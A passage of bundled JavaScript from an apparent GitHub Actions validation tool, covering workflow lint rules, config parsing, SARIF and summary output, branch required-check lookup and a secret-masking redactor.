            return r.startsWith('..') || external_node_path_.isAbsolute(r) ? undefined : real;
        }
        catch {
            return undefined;
        }
    }
    get(uses) {
        const rel = localUsesPath(uses);
        if (!rel)
            return undefined;
        for (const candidate of this.candidates(rel))
            if (this.models.has(candidate))
                return this.models.get(candidate);
        return undefined;
    }
}
function* usesOf(model) {
    if (model.kind === 'action') {
        for (const s of model.steps)
            if (s.uses)
                yield s.uses.value;
        return;
    }
    for (const job of model.jobs) {
        if (job.uses)
            yield job.uses.value;
        for (const s of job.steps)
            if (s.uses)
                yield s.uses.value;
    }
}
/** `# phase-gates-disable PG101, PG112` on a line: the ids it silences there (`*` for all). */
function inlineDisables(text) {
    const map = new Map();
    if (!text.includes('phase-gates-disable'))
        return map;
    const lines = text.split('\n');
    lines.forEach((line, i) => {
        const m = /#\s*phase-gates-disable(?:\s+([\w\s,-]+))?\s*$/.exec(line);
        if (!m)
            return;
        const ids = new Set((m[1] ?? '*').split(/[\s,]+/).filter(Boolean));
        if (ids.size === 0)
            ids.add('*');
        const target = i + 1;
        map.set(target, ids);
        // A comment alone on its line covers the next line, as eslint-disable-next-line does.
        if (/^\s*#/.test(line))
            map.set(target + 1, ids);
    });
    return map;
}
/** Runs every rule over the parsed files; findings sorted by file, line, column and rule. */
async function lint(files, options) {
    const local = new LocalFiles(options.workspace, files);
    await local.preload();
    const project = { files, local: (uses) => local.get(uses) };
    const settings = options.settings ?? { allowActions: [], allowOwners: [] };
    const findings = [];
    const active = [];
    for (const rule of options.rules) {
        const setting = options.ruleSettings?.get(rule.id);
        if (setting === 'off')
            continue;
        const context = {
            project,
            settings,
            requiredChecks: options.requiredChecks,
            report(file, node, message, own) {
                const level = setting ?? own ?? rule.level;
                const text = message.length > MAX_MESSAGE_CHARS ? `${message.slice(0, MAX_MESSAGE_CHARS)}…` : message;
                findings.push({ ruleId: rule.id, ruleName: rule.name, level, message: text, file: file.path, line: node.at.line, column: node.at.column });
            }
        };
        active.push({ rule, hooks: rule.create(context) });
    }
    for (const { hooks } of active)
        await hooks.prepare?.();
    for (const file of files) {
        for (const { hooks } of active)
            hooks.file?.(file);
        const model = file.model;
        if (!model)
            continue;
        if (model.kind === 'workflow') {
            for (const { hooks } of active)
                hooks.workflowPre?.(model);
            for (const job of model.jobs) {
                for (const { hooks } of active)
                    hooks.jobPre?.(job, model);
                for (const step of job.steps)
                    for (const { hooks } of active)
                        hooks.step?.(step, job, model);
                for (const { hooks } of active)
                    hooks.jobPost?.(job, model);
            }
            for (const { hooks } of active)
                hooks.workflowPost?.(model);
        }
        else {
            for (const { hooks } of active)
                hooks.actionPre?.(model);
            for (const step of model.steps)
                for (const { hooks } of active)
                    hooks.step?.(step, model, model);
            for (const { hooks } of active)
                hooks.actionPost?.(model);
        }
    }
    for (const { hooks } of active)
        await hooks.finish?.();
    const disables = new Map(files.map((f) => [f.source.path, inlineDisables(f.source.text)]));
    const kept = findings.filter((f) => {
        const ids = disables.get(f.file)?.get(f.line);
        return !ids || !(ids.has('*') || ids.has(f.ruleId) || ids.has(f.ruleName));
    });
    return sortFindings(dedupe(kept));
}
function dedupe(findings) {
    const seen = new Set();
    return findings.filter((f) => {
        const key = `${f.file}\0${f.line}\0${f.column}\0${f.ruleId}\0${f.message}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    });
}
/** Sorts by file, line, column, then rule id, as a compiler prints. */
function sortFindings(findings) {
    return findings.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || a.ruleId.localeCompare(b.ruleId)));
}
/** `file:line:col: level [id] message`, the compiler-like line of the command line and fixtures. */
function formatFinding(f) {
    return `${f.file}:${f.line}:${f.column}: ${f.level} [${f.ruleId}] ${f.message}`;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/config.js
/**
 * `.github/phase-gates.yml`, the rule settings of workflows-validation (internal):
 *
 * ```yaml
 * rules:
 *   PG112: warning                 # change a level (error, warning, note)
 *   needs-cycle: off               # disable, by id or name
 * ignore:
 *   - test/fixtures/**             # files never checked
 * allow:
 *   owners: [acme]                 # trusted owners (security rules)
 *   actions: [docker/build-push-action]
 * ```
 *
 * Every error names the config file and line, all collected before failing.
 */




const EMPTY_CONFIG = { rules: new Map(), ignore: [], settings: { allowActions: [], allowOwners: [] } };
const LEVELS = ['error', 'warning', 'note', 'off'];
/**
 * Reads the config at `abs` (shown as `shown`). A missing file is no config unless `explicit`
 * (the user named it). `input` is the input errors are attributed to.
 */
async function loadConfig(abs, shown, input, explicit, rules) {
    let text;
    try {
        const stat = await external_node_fs_.promises.stat(abs);
        if (stat.size > YAML_BOUNDS.config.maxBytes) {
            const problem = await oversizeProblem(abs, stat.size, YAML_BOUNDS.config);
            throw new core_errors/* UserError */.y(problem.message, { input, file: shown, line: problem.line });
        }
        text = await external_node_fs_.promises.readFile(abs, 'utf8');
    }
    catch (err) {
        if (err instanceof core_errors/* UserError */.y)
            throw err;
        if (err.code === 'ENOENT' && !explicit)
            return EMPTY_CONFIG;
        throw new core_errors/* UserError */.y(err.code === 'ENOENT' ? 'config file not found' : 'cannot read the config file', { input, file: shown });
    }
    return parseConfig(text, shown, input, rules);
}
/** Parses config text; all errors at once, each with file and line. */
function parseConfig(text, shown, input, rules) {
    checkYamlBounds(text, YAML_BOUNDS.config, { input, file: shown });
    const lineCounter = new yaml_dist/* LineCounter */.HN();
    // Aliases are never expanded here: only nodes are read, so an alias bomb costs nothing.
    const doc = (0,yaml_dist/* parseDocument */.Tp)(text, { lineCounter, uniqueKeys: true });
    const errors = [];
    const lineOf = (node) => (node?.range ? lineCounter.linePos(node.range[0]).line : undefined);
    const fail = (message, node, hint) => errors.push(new core_errors/* UserError */.y(message, { input, file: shown, line: lineOf(node), hint }));
    for (const e of doc.errors)
        errors.push(new core_errors/* UserError */.y(`invalid YAML: ${e.message.split('\n')[0]}`, { input, file: shown, line: e.linePos?.[0].line }));
    if (errors.length)
        throw core_errors/* UserError */.y.several(errors);
    const config = { rules: new Map(), ignore: [], settings: { allowActions: [], allowOwners: [] }, file: shown };
    const root = doc.contents;
    if (root === null || ((0,yaml_dist/* isScalar */.jn)(root) && (root.value === null || root.value === '')))
        return config;
    if (!(0,yaml_dist/* isMap */.jh)(root)) {
        fail('the config must be a mapping with rules:, ignore: and allow:', root);
        throw core_errors/* UserError */.y.several(errors);
    }
    const strings = (node, what) => {
        const n = node;
        if ((0,yaml_dist/* isScalar */.jn)(n) && typeof n.value === 'string')
            return [n.value];
        if (!(0,yaml_dist/* isSeq */.oP)(n)) {
            fail(`${what} must be a list of strings`, n);
            return [];
        }
        const out = [];
        for (const item of n.items) {
            if ((0,yaml_dist/* isScalar */.jn)(item) && typeof item.value === 'string' && item.value.trim())
                out.push(item.value.trim());
            else
                fail(`${what} must hold strings`, item);
        }
        return out;
    };
    for (const pair of root.items) {
        const key = (0,yaml_dist/* isScalar */.jn)(pair.key) ? String(pair.key.value) : '';
        const value = pair.value;
        if (key === 'rules') {
            if (!(0,yaml_dist/* isMap */.jh)(value)) {
                fail('rules: must map rule ids or names to a level (error, warning, note) or off', value ?? pair.key);
                continue;
            }
            for (const r of value.items) {
                const name = (0,yaml_dist/* isScalar */.jn)(r.key) ? String(r.key.value) : '';
                const rule = rules.find((x) => x.id.toLowerCase() === name.toLowerCase() || x.name === name);
                if (!rule) {
                    fail(`unknown rule "${name}"`, r.key, `rules are ${rules.map((x) => x.id).join(', ')}`);
                    continue;
                }
                let setting = (0,yaml_dist/* isScalar */.jn)(r.value) ? r.value.value : undefined;
                if ((0,yaml_dist/* isMap */.jh)(r.value)) {
                    const level = r.value.items.find((p) => (0,yaml_dist/* isScalar */.jn)(p.key) && p.key.value === 'level');
                    setting = level && (0,yaml_dist/* isScalar */.jn)(level.value) ? level.value.value : undefined;
                }
                if (setting === false)
                    setting = 'off';
                if (typeof setting !== 'string' || !LEVELS.includes(setting)) {
                    fail(`rule ${rule.id}: level must be error, warning, note or off`, r.value ?? r.key);
                    continue;
                }
                config.rules.set(rule.id, setting);
            }
        }
        else if (key === 'ignore') {
            config.ignore = strings(value, 'ignore:');
        }
        else if (key === 'allow') {
            if (!(0,yaml_dist/* isMap */.jh)(value)) {
                fail('allow: must be a mapping with owners: and actions:', value ?? pair.key);
                continue;
            }
            for (const a of value.items) {
                const k = (0,yaml_dist/* isScalar */.jn)(a.key) ? String(a.key.value) : '';
                if (k === 'owners')
                    config.settings = { ...config.settings, allowOwners: strings(a.value, 'allow.owners') };
                else if (k === 'actions')
                    config.settings = { ...config.settings, allowActions: strings(a.value, 'allow.actions') };
                else
                    fail(`unknown key allow.${k}`, a.key, 'allow: takes owners and actions');
            }
        }
        else {
            fail(`unknown key "${key}"`, pair.key, 'the config takes rules, ignore and allow');
        }
    }
    if (errors.length)
        throw core_errors/* UserError */.y.several(errors);
    return config;
}
/** A glob of `ignore:` as a regular expression: `**` any path, `*` and `?` within a segment. */
function globToRegExp(glob) {
    let re = '';
    const g = glob.replace(/^\.\//, '');
    for (let i = 0; i < g.length; i++) {
        const c = g[i];
        if (c === '*' && g[i + 1] === '*') {
            i++;
            if (g[i + 1] === '/') {
                i++;
                re += '(?:.*/)?';
            }
            else
                re += '.*';
        }
        else if (c === '*')
            re += '[^/]*';
        else if (c === '?')
            re += '[^/]';
        else
            re += c.replace(/[.+^${}()|[\]\\]/g, '\\$&');
    }
    // A directory pattern covers everything below it.
    return new RegExp(`^${re}(?:/.*)?$`);
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/sarif.js
/** Where docs/rules.md is published; rule help links point at its headings. */
const RULES_DOCS_URL = 'https://github.com/phase-gates/phase-gates/blob/main/docs/rules.md';
/** The SARIF log of a run (an object; the caller serialises it). */
function toSarif(findings, options) {
    const index = new Map(options.rules.map((r, i) => [r.id, i]));
    return {
        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
        version: '2.1.0',
        runs: [
            {
                tool: {
                    driver: {
                        name: 'phase-gates workflows-validation',
                        informationUri: RULES_DOCS_URL.replace(/\/blob\/.*$/, ''),
                        rules: options.rules.map((r) => ({
                            id: r.id,
                            name: r.name,
                            shortDescription: { text: r.description },
                            fullDescription: { text: r.help },
                            help: { text: `${r.description}\n\n${r.help}`, markdown: `**${r.id} ${r.name}**: ${r.description}\n\n${r.help}` },
                            helpUri: `${RULES_DOCS_URL}#${options.docsAnchor(r)}`,
                            defaultConfiguration: { level: r.level },
                            properties: { tags: ['workflows', 'github-actions'] }
                        }))
                    }
                },
                ...(options.omitted?.length
                    ? { invocations: [{ executionSuccessful: true, toolExecutionNotifications: options.omitted.map((text) => ({ level: 'note', message: { text } })) }] }
                    : {}),
                results: findings.map((f) => ({
                    ruleId: f.ruleId,
                    ...(index.has(f.ruleId) ? { ruleIndex: index.get(f.ruleId) } : {}),
                    level: f.level,
                    message: { text: f.message },
                    locations: [
                        {
                            physicalLocation: {
                                // Relative to the repository root, as code scanning resolves it.
                                artifactLocation: { uri: encodeURI(f.file) },
                                region: { startLine: f.line, startColumn: f.column }
                            }
                        }
                    ],
                    partialFingerprints: { primaryLocationLineHash: fingerprint(f) }
                }))
            }
        ]
    };
}
/** A stable fingerprint (rule, file, message), so that code scanning tracks a finding across commits. */
function fingerprint(f) {
    let h = 0x811c9dc5;
    for (const ch of `${f.ruleId}\0${f.file}\0${f.message}`) {
        h ^= ch.codePointAt(0);
        h = Math.imul(h, 0x01000193) >>> 0;
    }
    return h.toString(16).padStart(8, '0');
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/cap.js
/**
 * Which findings are shown (internal to workflows-validation): at most {@link SHOWN_PER_FILE} of a
 * file and {@link SHOWN_PER_RUN} of a run, errors before warnings before notes, so that a hostile
 * or broken file costs bounded annotations, log lines, summary, SARIF and outputs. The counts stay
 * the true totals; what is left out is said in one line per file.
 */

/** Most findings shown for one file. */
const SHOWN_PER_FILE = 100;
/** Most findings shown for one run, all files together. */
const SHOWN_PER_RUN = 1000;
const RANK = { error: 0, warning: 1, note: 2 };
/** The most severe `most` of `findings`, ties in their order. */
function mostSevere(findings, most) {
    if (findings.length <= most)
        return findings;
    return findings
        .map((f, i) => ({ f, i }))
        .sort((a, b) => RANK[a.f.level] - RANK[b.f.level] || a.i - b.i)
        .slice(0, most)
        .map((x) => x.f);
}
/** The findings to show of `findings` (all of a run), with what is left out per file. */
function capFindings(findings, perFile = SHOWN_PER_FILE, perRun = SHOWN_PER_RUN) {
    const byFile = new Map();
    for (const f of findings) {
        const list = byFile.get(f.file);
        if (list)
            list.push(f);
        else
            byFile.set(f.file, [f]);
    }
    let kept = [];
    for (const list of byFile.values())
        kept.push(...mostSevere(list, perFile));
    kept = mostSevere(sortFindings(kept), perRun);
    const shownOf = new Map();
    for (const f of kept)
        shownOf.set(f.file, (shownOf.get(f.file) ?? 0) + 1);
    const omitted = new Map();
    for (const [file, list] of byFile)
        if (list.length > (shownOf.get(file) ?? 0))
            omitted.set(file, list.length - (shownOf.get(file) ?? 0));
    return { shown: sortFindings(kept), total: findings.length, omitted };
}
/** Most files named in {@link omittedLines}; the rest are summed up in one more line. */
const OMITTED_FILES_NAMED = 100;
/**
 * One line per file with findings left out (`file: 2,345 more findings not shown (…)`), for at most
 * {@link OMITTED_FILES_NAMED} files, then one line for the other files together.
 */
function omittedLines(capped) {
    const n = (v) => v.toLocaleString('en-US');
    const more = (count) => `${n(count)} more finding${count === 1 ? '' : 's'}`;
    const why = `(at most ${n(SHOWN_PER_FILE)} a file and ${n(SHOWN_PER_RUN)} a run are shown; the counts are complete)`;
    const entries = [...capped.omitted];
    const lines = entries.slice(0, OMITTED_FILES_NAMED).map(([file, count]) => `${file}: ${more(count)} not shown ${why}`);
    const rest = entries.slice(OMITTED_FILES_NAMED);
    if (rest.length)
        lines.push(`${more(rest.reduce((sum, [, count]) => sum + count, 0))} in ${n(rest.length)} other files not shown ${why}`);
    return lines;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/summary.js

function cell(text) {
    return text.replace(/\|/g, '\\|').replace(/\r?\n/g, ' ');
}
/** Most rows shown in the summary table (the SARIF file holds every finding shown). */
const SUMMARY_ROWS = 200;
/** The summary of a run: `findings` all of them (for the counts), `capped` the ones shown. */
function renderSummary(findings, capped, fileCount, valid) {
    const errors = findings.filter((f) => f.level === 'error').length;
    const warnings = findings.filter((f) => f.level === 'warning').length;
    const head = `## Workflows validation: ${valid ? '✅ valid' : '❌ invalid'} (${fileCount} file${fileCount === 1 ? '' : 's'}, ${errors} error${errors === 1 ? '' : 's'}, ${warnings} warning${warnings === 1 ? '' : 's'})\n\n`;
    if (!findings.length)
        return head + 'No finding.\n';
    const shown = capped.shown;
    const rows = shown.slice(0, SUMMARY_ROWS).map((f) => `| ${f.level === 'error' ? '❌ error' : f.level === 'warning' ? '⚠️ warning' : 'ℹ️ note'} | \`${f.ruleId}\` ${f.ruleName} | \`${cell(f.file)}:${f.line}:${f.column}\` | ${cell(f.message)} |`);
    const more = shown.length > SUMMARY_ROWS ? `\n${shown.length - SUMMARY_ROWS} more in the SARIF file.\n` : '';
    const left = omittedLines(capped);
    const omitted = left.length ? `\n${left.map((l) => `- ${cell(l)}`).join('\n')}\n` : '';
    return head + '| Level | Rule | Location | Message |\n| --- | --- | --- | --- |\n' + rows.join('\n') + '\n' + more + omitted;
}

;// CONCATENATED MODULE: ./.build/src/core/commands/validate.js
/**
 * workflows-validation: parses the workflows and action metadata named by `paths` with GitHub's
 * own parser, runs every rule of src/core/workflows/rules/, and reports the findings as annotations, a job
 * summary, SARIF 2.1.0 and the SPEC outputs. One broken file never hides the findings of the others.
 */












/**
 * The default `paths`: the SPEC's, and the places GitHub's conventions put local actions
 * (`.github/actions/<name>/`) and the `.yaml` spelling the runner also reads.
 */
const DEFAULT_PATHS = [
    '.github/workflows/*.yml',
    '.github/workflows/*.yaml',
    '.github/actions/*/action.yml',
    '.github/actions/*/action.yaml',
    'action.yml',
    'action.yaml',
    'actions/*/action.yml',
    'actions/*/action.yaml'
];
/** The SPEC's default config file. */
const DEFAULT_CONFIG = '.github/phase-gates.yml';
const VALIDATION_REPORT_SCHEMA = 'phase-gates/validation-report@1';
function failOnInput(host) {
    const v = input(host, ValidationInputs.FailOn, 'error').toLowerCase();
    if (v === 'error' || v === 'warning' || v === 'never')
        return v;
    throw new core_errors/* UserError */.y(`must be error, warning or never, not ${JSON.stringify(v)}`, { input: ValidationInputs.FailOn });
}
/**
 * A directory in `paths` means the workflows and action metadata under it: the `.yml`/`.yaml` files
 * directly in each `.github/workflows` (GitHub reads no subdirectory there), the directory itself
 * when it is one, and every `action.yml`/`action.yaml`. None found is an error naming the directory.
 */
async function workflowFilesUnder(dir, shown) {
    const isWorkflowsDir = (d) => external_node_path_.basename(d) === 'workflows' && external_node_path_.basename(external_node_path_.dirname(d)) === '.github';
    const files = (await filesUnder(dir, shown, ValidationInputs.Paths)).filter((f) => /^action\.ya?ml$/.test(external_node_path_.basename(f)) || (isWorkflowsDir(external_node_path_.dirname(f)) && /\.ya?ml$/.test(f)));
    if (files.length === 0) {
        throw new core_errors/* UserError */.y(`${shown} is a directory with no workflow (.github/workflows/*.yml) or action.yml under it`, { input: ValidationInputs.Paths });
    }
    return files;
}
/**
 * The files of `paths`, inside the workspace. With the default paths (also when the runner passes
 * action.yml's default), a pattern that matches nothing is normal (not every repository has
 * actions/); a pattern the user gave must match. A directory means the workflow files under it.
 */
async function selectFiles(host, ignore) {
    const given = input(host, ValidationInputs.Paths);
    const patterns = given ? splitList(given) : DEFAULT_PATHS;
    const defaults = patterns.length === DEFAULT_PATHS.length && patterns.every((p, i) => p === DEFAULT_PATHS[i]);
    const excludes = patterns.filter((p) => p.startsWith('!'));
    const found = new Set();
    for (const pattern of patterns.filter((p) => !p.startsWith('!'))) {
        try {
            for (const f of await expandGlobs(host.workspace, [pattern, ...excludes].join('\n'), ValidationInputs.Paths, workflowFilesUnder))
                found.add(f);
        }
        catch (err) {
            if (err instanceof core_errors/* UserError */.y && /^no file matches/.test(err.message) && defaults)
                continue;
            throw err;
        }
    }
    const files = [...found].filter((f) => !ignore.some((re) => re.test(displayPath(host.workspace, f))));
    if (files.length === 0) {
        throw new core_errors/* UserError */.y(`no workflow or action file to check (patterns: ${patterns.join(', ')})`, { input: ValidationInputs.Paths });
    }
    return files.sort();
}
/** The SPEC's default `required-checks`. */
const DEFAULT_REQUIRED_CHECKS = ['workflows_validation', 'gates_enforcer'];
/**
 * The base branch's required checks (branch protection ∪ rules for the branch), read through the
 * API when a token is given; undefined without one. The client is loaded only then.
 */
function requiredChecksSource(host, token) {
    const given = input(host, ValidationInputs.RequiredChecks);
    const expected = given ? splitList(given) : DEFAULT_REQUIRED_CHECKS;
    const branchGiven = input(host, ValidationInputs.BaseBranch) || host.env.GITHUB_BASE_REF?.trim() || '';
    if (!token)
        return undefined;
    return {
        expected,
        async read() {
            const { createGitHubClient, clientOptionsFromEnv, repoFromEnv, withGitHubErrors } = await Promise.all(/* import() */[__webpack_require__.e(932), __webpack_require__.e(408)]).then(__webpack_require__.bind(__webpack_require__, 7408));
            const { owner, repo } = repoFromEnv({ GITHUB_SHA: '-', ...host.env });
            const client = createGitHubClient({ token, ...clientOptionsFromEnv(host.env), log: (m) => host.info(m) });
            const ctx = (doing) => ({ input: ValidationInputs.Token, doing, notFoundHint: 'check GITHUB_REPOSITORY and the `base-branch` input' });
            const branch = branchGiven ||
                (await withGitHubErrors(client, ctx(`reading repository ${owner}/${repo}`), async () => (await client.rest.repos.get({ owner, repo })).data.default_branch));
            const required = new Set();
            let partial = false;
            const status = (err) => (err instanceof Error && typeof err.status === 'number' ? err.status : 0);
            await withGitHubErrors(client, ctx(`reading branch protection of ${owner}/${repo}@${branch}`), async () => {
                try {
                    const { data } = await client.rest.repos.getBranchProtection({ owner, repo, branch });
                    for (const c of data.required_status_checks?.contexts ?? [])
                        required.add(c);
                    for (const c of data.required_status_checks?.checks ?? [])
                        required.add(c.context);
                }
                catch (err) {
                    if (status(err) === 404)
                        return; // not protected
                    if (status(err) === 403 && !/rate limit/i.test(String(err.message))) {
                        partial = true; // GITHUB_TOKEN cannot read branch protection (administration)
                        host.info(`branch protection of ${branch} not readable with this token (needs administration read); required checks from rulesets only`);
                        return;
                    }
                    throw err;
                }
            });
            await withGitHubErrors(client, ctx(`reading the rules of ${owner}/${repo}@${branch}`), async () => {
                const rules = await client.paginate(client.rest.repos.getBranchRules, { owner, repo, branch, per_page: 100 });
                for (const r of rules) {
                    if (r.type !== 'required_status_checks')
                        continue;
                    for (const c of r.parameters?.required_status_checks ?? [])
                        required.add(c.context);
                }
            });
            const list = [...required].sort();
            host.info(`required checks of ${branch}: ${list.join(', ') || 'none'}${partial ? ' (rulesets only)' : ''}`);
            return { branch, required: list, partial };
        }
    };
}
const ANNOTATION = { error: 'error', warning: 'warning', note: 'notice' };
async function runValidate(host) {
    const workspace = host.workspace;
    const failOn = failOnInput(host);
    const sarifGiven = input(host, ValidationInputs.SarifPath, Defaults.ValidationSarif);
    const sarifFile = resolveOutputInWorkspace(workspace, sarifGiven, ValidationInputs.SarifPath);
    const token = input(host, ValidationInputs.Token);
    if (token)
        host.setSecret(token);
    const configGiven = input(host, ValidationInputs.Config);
    const configFile = resolveInWorkspace(workspace, configGiven || DEFAULT_CONFIG, ValidationInputs.Config);
    // Missing is fine at the default path, also when the runner passes action.yml's default.
    const configRequired = Boolean(configGiven) && external_node_path_.normalize(configGiven) !== external_node_path_.normalize(DEFAULT_CONFIG);
    const config = await loadConfig(configFile, displayPath(workspace, configFile), ValidationInputs.Config, configRequired, RULES);
    const files = await selectFiles(host, config.ignore.map(globToRegExp));
    const parsed = [];
    for (const abs of files)
        parsed.push(await loadFile(abs, displayPath(workspace, abs)));
    const requiredChecks = requiredChecksSource(host, token);
    if (!requiredChecks)
        host.info('required checks not verified: no `token` input to read the base branch protection and rulesets');
    const findings = await lint(parsed, { workspace, rules: RULES, ruleSettings: config.rules, settings: config.settings, requiredChecks });
    // Shown: at most 100 findings a file and 1,000 a run (errors first); the counts are of all.
    const capped = capFindings(findings);
    const omitted = omittedLines(capped);
    const errorCount = findings.filter((f) => f.level === 'error').length;
    const warningCount = findings.filter((f) => f.level === 'warning').length;
    const valid = errorCount === 0;
    const report = {
        schema: VALIDATION_REPORT_SCHEMA,
        valid,
        errorCount,
        warningCount,
        noteCount: findings.length - errorCount - warningCount,
        files: parsed.map((p) => p.source.path),
        findingCount: findings.length,
        findings: capped.shown.map((f) => ({ rule: f.ruleId, name: f.ruleName, level: f.level, file: f.file, line: f.line, column: f.column, message: f.message })),
        omitted: [...capped.omitted].map(([file, count]) => ({ file, count }))
    };
    await writeFileAtomic(sarifFile, JSON.stringify(toSarif(capped.shown, { rules: RULES, docsAnchor: docsAnchor, omitted }), null, 2) + '\n');
    host.setOutput(ValidationOutputs.Valid, String(valid));
    host.setOutput(ValidationOutputs.ErrorCount, String(errorCount));
    host.setOutput(ValidationOutputs.WarningCount, String(warningCount));
    host.setOutput(ValidationOutputs.SarifPath, displayPath(workspace, sarifFile));
    host.setOutput(ValidationOutputs.Report, JSON.stringify(report));
    // Compiler-like lines for the log and the terminal; annotations where the runner reads them.
    for (const f of capped.shown)
        host.info(formatFinding(f));
    for (const line of omitted)
        host.info(line);
    if (host.env.GITHUB_ACTIONS === 'true') {
        for (const f of capped.shown) {
            host.annotate(ANNOTATION[f.level], f.message, { file: f.file, startLine: f.line, startColumn: f.column, title: `${f.ruleId} ${f.ruleName}` });
        }
        for (const line of omitted)
            host.annotate('notice', line, { title: 'findings not shown' });
    }
    await host.appendSummary(renderSummary(findings, capped, parsed.length, valid));
    host.info(`${parsed.length} file${parsed.length === 1 ? '' : 's'} checked: ${errorCount} error(s), ${warningCount} warning(s); SARIF in ${external_node_path_.relative(workspace, sarifFile) || sarifFile}`);
    const failing = failOn === 'never' ? 0 : failOn === 'warning' ? errorCount + warningCount : errorCount;
    const message = failing
        ? `workflows validation failed: ${errorCount} error(s) and ${warningCount} warning(s) in ${new Set(findings.map((f) => f.file)).size} file(s) (fail-on: ${failOn})`
        : undefined;
    return { ok: failing === 0, message, findings, report };
}


/***/ }),

/***/ 6512:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   y: () => (/* binding */ UserError)
/* harmony export */ });
class UserError extends Error {
    input;
    file;
    line;
    hint;
    constructor(message, options = {}) {
        super(message);
        this.name = 'UserError';
        this.input = options.input;
        this.file = options.file;
        this.line = options.line;
        this.hint = options.hint;
    }
    /** `input: file:line: message (hint)` — one line, whatever the message held. */
    render() {
        let where = '';
        if (this.input)
            where += `${this.input}: `;
        if (this.file)
            where += this.line ? `${this.file}:${this.line}: ` : `${this.file}: `;
        else if (this.line)
            where += `line ${this.line}: `;
        const text = `${where}${this.message}${this.hint ? ` (${this.hint})` : ''}`;
        return text.replace(/[\r\n]+/g, ' ');
    }
    /** Further errors found in the same pass, so that a user sees them all at once. */
    more = [];
    /** One error carrying all of `errors` (the first is the headline). */
    static several(errors) {
        const [first, ...rest] = errors;
        first.more.push(...rest);
        return first;
    }
    /** Every error of this one, itself first, each rendered as one line. */
    renderAll() {
        return [this.render(), ...this.more.map((e) => e.render())];
    }
    /** The same error, attributed to an input and/or file when it did not say yet. */
    static attribute(err, options) {
        if (!(err instanceof UserError))
            return err;
        if ((options.input && !err.input) || (options.file && !err.file) || (options.line && !err.line && !err.file)) {
            const copy = new UserError(err.message, {
                input: err.input ?? options.input,
                file: err.file ?? options.file,
                line: err.line ?? options.line,
                hint: err.hint ?? options.hint
            });
            copy.more = err.more;
            return copy;
        }
        return err;
    }
}


/***/ }),

/***/ 428:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Q: () => (/* binding */ ActionsHost)
});

// EXTERNAL MODULE: ./node_modules/@actions/core/lib/core.js + 14 modules
var core = __webpack_require__(6421);
;// CONCATENATED MODULE: ./.build/src/core/secrets.js
/**
 * The one secret masker of phase-gates: deploy, smoke-test, the pipeline and both hosts register
 * secrets here and mask with it, in every file, output, summary, log line and ledger record they
 * write. The runner masks what reaches the step log, but not our files.
 *
 * Like the runner's secret masker, a secret is masked with the forms a script is likely to print
 * it in. The runner's value encoders (actions/runner, src/Sdk/DTLogging/Logging/ValueEncoders.cs
 * at 3f7a01af939560ceb1222bca97d1ca4bee1ed843): Base64StringEscape and its shifts by one and two
 * bytes, JsonStringEscape, UriDataEscape, XmlDataEscape, ExpressionStringEscape and
 * TrimDoubleQuotes. Beyond them: base64url, form encoding, hex, backslash (shell) escapes, and
 * each line of a multi-line secret.
 *
 * Base64 of a secret inside a longer text depends on what precedes it (mod 3 bytes) and on what
 * follows it: for each of the three alignments, only the characters that the secret's own bytes
 * decide are registered (a partial last group is left out), so `base64("user:" + secret)` is masked
 * whatever comes before or after.
 */
/** Header and query parameter names whose values are credentials. */
const SECRET_NAME = /^(authorization|proxy-authorization|cookie|set-cookie)$|token|secret|passw|api[-_]?key|^key$|session|credential|signature|auth/i;
/** Whether a header or query parameter name holds a credential (its value is masked; smoke-test keeps it from other origins). */
function isSecretName(name) {
    return SECRET_NAME.test(name);
}
/** The mask, as the runner prints it. */
const MASK = '***';
/** Shortest encoded form registered: shorter ones would mask ordinary text. */
const MIN_ENCODED = 8;
/** Shortest line of a multi-line secret masked on its own. */
const MIN_LINE = 4;
function base64Stable(bytes) {
    const out = [];
    for (let shift = 0; shift < 3; shift++) {
        const part = bytes.subarray(shift);
        const whole = part.length - (part.length % 3);
        if (whole === 0)
            continue;
        const b64 = part.subarray(0, whole).toString('base64');
        out.push(b64, b64.replace(/\+/g, '-').replace(/\//g, '_'));
    }
    return out;
}
/** RFC 3986 escaping of every character that is not unreserved, as .NET's Uri.EscapeDataString does. */
function escapeDataString(value) {
    return encodeURIComponent(value).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
}
function xmlEscape(value) {
    return value.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;' })[c]);
}
/** The forms a secret is masked in, longest first, raw value included. */
function secretForms(value) {
    const forms = new Set([value]);
    for (const line of value.split(/\r?\n/))
        if (line.trim().length >= MIN_LINE)
            forms.add(line.trim());
    const bytes = Buffer.from(value, 'utf8');
    const encoded = [
        ...base64Stable(bytes),
        JSON.stringify(value).slice(1, -1),
        encodeURIComponent(value),
        escapeDataString(value),
        encodeURIComponent(value).replace(/%20/g, '+'),
        new URLSearchParams({ v: value }).toString().slice(2),
        xmlEscape(value),
        value.replace(/'/g, "''"),
        value.length > 8 && value.startsWith('"') && value.endsWith('"') ? value.slice(1, -1) : '',
        bytes.toString('hex'),
        bytes.toString('hex').toUpperCase(),
        value.replace(/[\\"'$`]/g, '\\$&')
    ];
    for (const form of encoded)
        if (form.length >= MIN_ENCODED)
            forms.add(form);
    return [...forms].sort((a, b) => b.length - a.length);
}
/** Holds the secret values of one run and replaces them, in every form, in text. */
class Redactor {
    forms = [];
    raw = [];
    /** Registers a value (ignoring empty ones) with its encoded forms; longer forms are replaced first. */
    add(value) {
        if (!value || this.raw.includes(value))
            return;
        this.raw.push(value);
        for (const form of secretForms(value))
            if (!this.forms.includes(form))
                this.forms.push(form);
        this.forms.sort((a, b) => b.length - a.length);
    }
    /** `text` with every registered form replaced by {@link MASK}. */
    redact(text) {
        let s = text;
        for (const form of this.forms)
            if (s.includes(form))
                s = s.split(form).join(MASK);
        return s;
    }
    /** Whether `text` holds a registered secret in any form. */
